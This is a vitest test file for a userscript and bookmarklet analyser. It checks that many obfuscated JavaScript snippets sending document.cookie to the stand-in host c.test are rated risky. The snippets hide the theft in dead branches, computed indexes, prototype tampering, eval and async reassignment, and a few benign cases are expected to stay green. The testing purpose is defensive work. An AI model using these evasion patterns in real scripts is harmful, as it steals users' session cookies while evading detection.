import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { userscript } from "../testing/find-in.ts";

const THEFT = `fetch("https://c.test/?c=" + document.cookie)`;

/** Branches that the exact run drops, as it believes to know the condition. */
const DROPPED = [
	["if", `if (1 > 2) ${THEFT};`],
	["else", `if (1 < 2) a(); else ${THEFT};`],
	["a conditional expression", `1 > 2 ? ${THEFT} : 0;`],
	["&&", `0 && ${THEFT};`],
	["||", `1 || ${THEFT};`],
	["??", `1 ?? ${THEFT};`],
	["||=", `let a = 1; a ||= ${THEFT};`],
	["??=", `let a = 1; a ??= ${THEFT};`],
	["while", `while (1 > 2) { ${THEFT} }`],
	["for", `for (let at = 0; at < 0; at++) ${THEFT};`],
	["for-of over an empty list", `for (const one of []) ${THEFT};`],
	["switch", `switch (1) { case 2: ${THEFT} }`],
	["what follows a return", `(function () { if (2 > 1) return; ${THEFT} })();`],
	["what follows a break", `for (;;) { if (2 > 1) break; ${THEFT} }`],
	["what follows a labeled break", `out: { if (2 > 1) break out; ${THEFT} }`],
	["what follows a continue", `for (const one of [1]) { if (2 > 1) continue; ${THEFT} }`],
	["what follows a throw", `try { if (2 > 1) throw 1; ${THEFT} } catch { a(); }`],
	["what follows the end of a generator", `function* g() { if (1) return; ${THEFT} } for (const one of g()) a(one);`],
	["a default parameter", `(function (a = ${THEFT}) {})(1);`],
	["a default of destructuring", `const { a = ${THEFT} } = { a: 1 };`],
	["a function that only a dropped branch defines", `const act = 1 > 2 ? () => ${THEFT} : () => 0; act();`],
	["a function that is called with another value", `function act(n) { if (n === 3) ${THEFT} } act(1);`],
	["a callback of an empty list", `[].map(() => ${THEFT});`],
	["a callback that stops before", `[1, 2].some((n) => { if (n < 5) return true; ${THEFT} });`],
	["code as text", `if (1 > 2) eval(${JSON.stringify(THEFT)});`],
] as const;

/** Programs whose value decides where data goes or what is read. */
const CHOSEN = [
	[
		"an address assigned in a dropped branch",
		`let to = "/x"; if (1 > 2) to = "https://c.test/?c="; fetch(to + document.cookie);`,
	],
	["an address by a condition", `const to = 1 > 2 ? "https://c.test/?c=" : "/x"; fetch(to + document.cookie);`],
	["an address by a computed index", `fetch(["/x", "https://c.test/?c="][+(1 > 2)] + document.cookie);`],
	["an address by a counted index", `let n = 0; n++; n--; fetch(["/x", "https://c.test/?c="][n] + document.cookie);`],
	[
		"an address by a computed name",
		`fetch({ a: "/x", b: "https://c.test/?c=" }[String.fromCharCode(97 + 0)] + document.cookie);`,
	],
	[
		"an address out of a filter",
		`["https://c.test/?c="].filter(() => 1 > 2).forEach((to) => fetch(to + document.cookie));`,
	],
	[
		"a frozen address",
		`const o = Object.freeze({ to: "https://c.test/?c=" }); o.to = "/x"; fetch(o.to + document.cookie);`,
	],
	[
		"an address overwritten after it was used",
		`let to = "/x"; Promise.resolve().then(() => fetch(to + document.cookie)); to = "https://c.test/?c=";`,
	],
	[
		"an address that was removed from a list",
		`const l = ["https://c.test/?c=", "/x"]; l.reverse(); fetch(l[1] + document.cookie);`,
	],
	[
		"an address behind a deleted one",
		`const o = Object.create({ to: "https://c.test/?c=" }); o.to = "/x"; delete o.to; fetch(o.to + document.cookie);`,
	],
	[
		"the thirteenth of many addresses",
		`const l = [${Array.from({ length: 12 }, (_, at) => `"/${at}?c="`).join()}, "https://c.test/?c="]; fetch(l[6 + 6] + document.cookie);`,
	],
	["a property whose name is known in part", `fetch("https://c.test/?c=" + document["cook" + String(n)]);`],
	["a function by a condition", `(1 > 2 ? fetch : console.log)("https://c.test/?c=" + document.cookie);`],
	["a function by a computed index", `[console.log, fetch][+(1 > 2)]("https://c.test/?c=" + document.cookie);`],
	["a property by a condition", `fetch("https://c.test/?c=" + document[1 > 2 ? "cookie" : "title"]);`],
] as const;

describe("a theft that the exact run takes to be impossible", () => {
	test.each([...DROPPED, ...CHOSEN])("is red in a userscript and in a bookmarklet: %s", (_title, code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
		const installed = userscript(["match https://shop.example/*", "grant none"], code);
		expect(analyzeScript({ code: installed }).risk_level).not.toBe("green");
	});

	test("names the receiver and what is read", () => {
		const [finding] = analyzeScript({ code: `if (1 > 2) ${THEFT};` }).vulnerabilities;
		expect(finding).toMatchObject({ type: "cookie-exfiltration", severity: "critical", line: 1 });
		expect(finding?.description).toContain("c.test");
	});

	test("lists the receiver among the hosts", () => {
		const { hosts, offline } = analyzeScript({ code: `if (1 > 2) ${THEFT};` }).capabilities;
		expect(hosts.map(({ host }) => host)).toEqual(["c.test"]);
		expect(offline).toBe(false);
	});
});

/** What the skeptical run doubts, and the exact run knows to be harmless. */
const HARMLESS = [
	["a table by a computed key", `const words = { 1: "one", 2: "two" }; document.title = words[1 + 1];`],
	["an address of one's own, joined", `fetch(["https://c.test", "list"].join("/")).then((r) => r.json()).then(show);`],
	["a switch of debugging", `const DEBUG = false; if (DEBUG) console.log(document.cookie);`],
	["a loop over one's own addresses", `for (const name of ["a", "b"]) fetch("/api/" + name);`],
	[
		"a worker of one's own text",
		`function work() { postMessage(1); } new Worker(URL.createObjectURL(new Blob(["(" + work + ")()"])));`,
	],
] as const;

describe("what only the skeptical run does not believe", () => {
	test.each(HARMLESS)("stays green: %s", (_title, code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
	});
});

/** Addresses that may name a stranger: worth a look, since the exact run proves nothing. */
const DOUBTFUL = [
	[
		"exchanged text",
		`fetch("/" + String(document.currentScript).replace("null", () => "/c.test/?c=") + document.cookie);`,
	],
	[
		"text of the page between parts of its own",
		`fetch("/" + ["/c.test", ""].join(document.title).split(" ").join("/?c=") + document.cookie);`,
	],
] as const;

describe("a secret in an address that the script puts together with text of the page", () => {
	test.each(DOUBTFUL)("is not green: %s", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).not.toBe("green");
	});

	test("stays green in a path of the page itself", () => {
		const code = `fetch("/" + location.pathname.split("/")[1] + "/list").then((r) => r.json()).then(show);`;
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
	});
});

/** Values on ways that the model does not know: each reaches a function, a name or an address in a browser. */
const BEYOND_THE_MODEL = [
	[
		"an exec of its own",
		`const it = /a/; it.exec = () => ({ 0: fetch, index: 0 }); ("a".match(it)[0])("https://c.test/?c=" + document.cookie);`,
	],
	[
		"an item of all lists",
		`const it = [,]; Array.prototype[0] = fetch; (it[0])("https://c.test/?c=" + document.cookie);`,
	],
	[
		"a field over an accessor",
		`class A { get a() { return 1; } set a(to) {} } class B extends A { a = fetch; } (new B().a)("https://c.test/?c=" + document.cookie);`,
	],
	[
		"a handler that focus calls",
		`let got; const on = document.createElement("input"); document.body.append(on); on.onfocus = () => { got = "cookie"; }; on.focus(); fetch("https://c.test/?c=" + document[got]);`,
	],
	["text that eval writes", `let it = 1, to = "cookie"; eval("it = to"); fetch("https://c.test/?c=" + document[it]);`],
	[
		"the document out of a replacer",
		`fetch("https://c.test/?c=" + ("a".replace({ [Symbol.replace]: () => document }, "b")).cookie);`,
	],
	[
		"mapped arguments",
		`function act(way) { arguments[0] = "https://c.test/?c="; fetch(way + document.cookie); } act("/a?c=");`,
	],
	[
		"arguments that follow a parameter",
		`function act(way) { way = document; fetch("https://c.test/?c=" + arguments[0].cookie); } act(1);`,
	],
	[
		"a variable at a reaction",
		`(function () { let it = "/a?c="; Promise.resolve().then(() => { fetch(it + document.cookie); }); it = "https://c.test/?c="; })();`,
	],
	[
		"a variable after an await",
		`(function () { let it = "/a?c="; (async () => { await 0; fetch(it + document.cookie); })(); it = "https://c.test/?c="; })();`,
	],
	...[
		["an object like a list", `const n = Array.prototype.slice.call({ 0: "cookie", length: 1 })[0];`],
		["an object like a list, mapped", `const [n] = Array.prototype.map.call({ 0: "cookie", length: 1 }, (a) => a);`],
		["a variable within with", `var it = { b: 1 }; with (it) { var b = "cookie"; } const n = it.b;`],
		["an own exec", `const it = /a/; it.exec = () => ["cookie"]; const n = "a".match(it)[0];`],
		["a flattened list", `const n = [[1], [["cookie"]]].flat(Infinity)[1];`],
		[
			"a getter of all objects",
			`Object.defineProperty(Object.prototype, "a", { get: () => "cookie" }); const n = [].a;`,
		],
		["an old getter of all objects", `Object.prototype.__defineGetter__("a", () => "cookie"); const n = ({}).a;`],
		[
			"an event that is stopped",
			`let n = ""; const on = new EventTarget(); on.addEventListener("a", () => { n += "p"; }, { once: true }); on.dispatchEvent(new Event("a")); n = ""; on.addEventListener("a", (e) => { n += "cook" + "ie"; e.stopImmediatePropagation(); }); on.addEventListener("a", () => { n += "2"; }); on.dispatchEvent(new Event("a"));`,
		],
	].map(([title, before]) => [
		`a name of the document out of ${title}`,
		`${before} fetch("https://c.test/?c=" + document[n]);`,
	]),
	[
		"the document out of an object like a list",
		`fetch("https://c.test/?c=" + Array.prototype.slice.call({ 0: document, length: 1 })[0].cookie);`,
	],
	[
		"an address that a replacer makes of an unknown text",
		`fetch("/" + location.hash.replace("ab", () => "/c.test/?c=") + document.cookie);`,
	],
	[
		"text that an own element gives back",
		`const it = document.createElement("p"); it.append("https://c.test/?c="); fetch(document.createTreeWalker(it, 4).nextNode().data + document.cookie);`,
	],
];

describe("a theft on a way that the model does not know", () => {
	test.each(BEYOND_THE_MODEL)("is not green: %s", (_title, code) => {
		expect(["amber", "red"]).toContain(analyzeScript({ code }).risk_level);
	});
});
